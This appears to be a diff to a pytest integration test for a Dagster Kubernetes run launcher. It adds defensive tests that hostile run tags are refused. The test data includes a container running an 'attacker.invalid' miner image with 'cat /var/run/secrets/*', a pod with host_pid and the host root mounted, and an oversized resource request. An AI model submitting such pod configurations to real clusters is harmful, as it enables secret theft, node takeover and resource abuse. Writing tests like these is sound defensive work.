@@ -8,6 +8,7 @@ The session's admin bridges are paused while this module runs: its bridge submit
 
 from __future__ import annotations
 
+import copy
 import json
 import os
 import shlex
@@ -40,34 +41,29 @@ ROOT = Path(__file__).resolve().parents[2]
 VALUES = ROOT / "deploy" / "dagster" / "values.yaml"
 PROJECT_IMAGE = "localhost/kubetask-dagster:dev"
 WORKER_NS, WORKER_SA = "dagster", "kubetask-run-worker"
-RUN_K8S_KEYS = {"podSpecConfig": "pod_spec_config", "containerConfig": "container_config", "jobSpecConfig": "job_spec_config",
-                "jobMetadata": "job_metadata", "podTemplateSpecMetadata": "pod_template_spec_metadata"}
 
 
 def launcher_config(cluster, api_port: str) -> dict:
-    """values.yaml's k8sRunLauncher as the Helm chart writes it into dagster.yaml, with the local changes."""
-    values = yaml.safe_load(VALUES.read_text())["runLauncher"]["config"]["k8sRunLauncher"]
-    run_k8s = {RUN_K8S_KEYS[k]: v for k, v in (values.get("runK8sConfig") or {}).items()}
-    pod_spec = {**run_k8s.get("pod_spec_config", {}), "hostNetwork": True, **ON_THE_REAL_NODE}
-    run_k8s["pod_spec_config"] = pod_spec
-    config = {
-        "instance_config_map": "dagster-instance",
-        "dagster_home": "/opt/dagster/dagster_home",
-        "postgres_password_secret": None,
-        "job_namespace": WORKER_NS,
-        "service_account_name": WORKER_SA,
+    """values.yaml's run launcher config, as the Helm chart writes it into dagster.yaml, with the local changes."""
+    launcher = yaml.safe_load(VALUES.read_text())["runLauncher"]["config"]["customRunLauncher"]
+    assert (launcher["module"], launcher["class"]) == ("dagster_k8s", "K8sRunLauncher")
+    config = copy.deepcopy(launcher["config"])
+    assert (config["job_namespace"], config["service_account_name"]) == (WORKER_NS, WORKER_SA)
+    run_k8s = config["run_k8s_config"]
+    run_k8s["pod_spec_config"] = {**run_k8s.get("pod_spec_config", {}), "hostNetwork": True, **ON_THE_REAL_NODE}
+    del config["postgres_password_secret"]  # the local Postgres takes no password
+    config.update({
         "image_pull_policy": "Never",  # values: IfNotPresent; here no registry has the image
         "load_incluster_config": False,  # values: true; the daemon runs on the host here
         "kubeconfig_file": cluster.kubeconfig,
         "env_vars": [
+            *config["env_vars"],
             # in-cluster config for the run worker's own ServiceAccount token, kube-apiserver on loopback
             "KUBERNETES_SERVICE_HOST=127.0.0.1", f"KUBERNETES_SERVICE_PORT={api_port}",
             "KUBETASK_AGENT_HOST_NETWORK=true", "KUBETASK_GIT_IMAGE=localhost/kubetask-git:dev",
         ],
-        "resources": values.get("resources"),
-        "run_k8s_config": run_k8s,
-    }
-    return {k: v for k, v in config.items() if v is not None}
+    })
+    return config
 
 
 @pytest.fixture(scope="module")
@@ -168,3 +164,45 @@ def test_a_batchrun_runs_in_one_run_worker_pod(production, kubectl, wait_for, te
     assert worker["spec"]["nodeName"] == "localhost"
     wait_for(lambda: condition(get(kubectl, namespace, "batchrun", "prod-batch"), "Succeeded")["status"] == "True",
              timeout=30, what="the BatchRun finalized")
+
+
+# What anyone who reaches a webserver could ask of the run launcher, each the field that gives a pod
+# the run workers' rights with the attacker's code or more than they have.
+HOSTILE_RUN_TAGS = {
+    "another-image": ({"dagster-k8s/config": {"container_config": {"image": "attacker.invalid/miner:latest",
+                                                                    "command": ["sh", "-c", "cat /var/run/secrets/*"]}}},
+                      "container_config.image"),
+    "the-node": ({"dagster-k8s/config": {"pod_spec_config": {"host_pid": True, "service_account_name": "default",
+                                                              "volumes": [{"name": "root", "host_path": {"path": "/"}}]}}},
+                 "pod_spec_config.host_pid"),
+    "more-resources": ({"dagster-k8s/resource_requirements": {"requests": {"cpu": "64", "memory": "512Gi"}}},
+                       "container_config.resources"),
+}
+
+
+def launch_errors(dagster, run_id: str) -> str:
+    data = dagster.graphql(
+        """query($id: ID!) { logsForRun(runId: $id) { __typename ... on EventConnection { events { __typename
+             ... on MessageEvent { message } ... on EngineEvent { error { message } } } } } }""", {"id": run_id})
+    return json.dumps(data)
+
+
+@pytest.mark.parametrize("attack", HOSTILE_RUN_TAGS, ids=list(HOSTILE_RUN_TAGS))
+def test_a_run_tag_cannot_choose_the_run_workers_pod(production, kubectl, wait_for, tenant, attack):
+    """A launchRun straight to the webserver, as an agent that reached it would send: the launcher refuses
+    the tagged pod config, the run fails where Dagster's UI shows it, and no run worker Job exists."""
+    from crd_bridge.dagster.client import DagsterClient
+    from kubetask.domain.runs import TASK_JOB
+
+    tags, field = HOSTILE_RUN_TAGS[attack]
+    ref = {"namespace": tenant, "name": "no-such-task", "uid": "00000000-0000-0000-0000-000000000000", "generation": 1}
+    run_id = DagsterClient(production.url).submit_run(
+        TASK_JOB, {"ops": {"prepare_task": {"config": ref}}}, {k: json.dumps(v) for k, v in tags.items()})
+    final = {"FAILURE", "SUCCESS", "CANCELED", "STARTED"}
+    status = wait_for(lambda: production.run(run_id)["status"] in final and production.run(run_id)["status"],
+                      timeout=90, what="the tagged run to leave the queue")
+    assert status == "FAILURE"
+    errors = launch_errors(production, run_id)
+    assert "violated the allowed list" in errors and field in errors, errors[:2000]
+    jobs = json.loads(kubectl("get", "jobs", "-A", "-l", f"dagster/run-id={run_id}", "-o", "json").stdout)["items"]
+    assert jobs == []
